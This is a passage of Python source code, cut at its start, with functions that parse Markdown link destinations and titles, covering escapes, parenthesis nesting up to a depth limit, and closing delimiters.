            j += 2 if s[j] == "\\" and j + 1 < n and s[j + 1] in _PUNCTUATION else 1
        return (s[k + 1 : j], j + 1) if j < n and s[j] == ">" else None
    j, depth = k, 0
    while j < n:
        plain = _DESTINATION_TEXT.match(s, j)
        if plain:
            j = plain.end()
            continue
        c = s[j]
        if c == "\\" and j + 1 < n and s[j + 1] in _PUNCTUATION:
            j += 2
            continue
        if c == "(":
            depth += 1
            if depth > 32:  # the renderer's limit: deeper is no destination
                return None
        elif c == ")":
            if not depth:
                break
            depth -= 1
        elif c != "\\":  # a space or a control character ends it
            break
        j += 1
    return (s[k:j], j) if j > k and not depth else None


def _title(s: str, k: int) -> int | None:
    closing = ")" if s[k] == "(" else s[k]
    j = k + 1
    while j < len(s):
        c = s[j]
        if c == "\\" and j + 1 < len(s) and s[j + 1] in _PUNCTUATION:
            j += 2
            continue
        if c == closing:
            return j + 1
        if closing == ")" and c == "(":
            return None
        j += 1
    return None
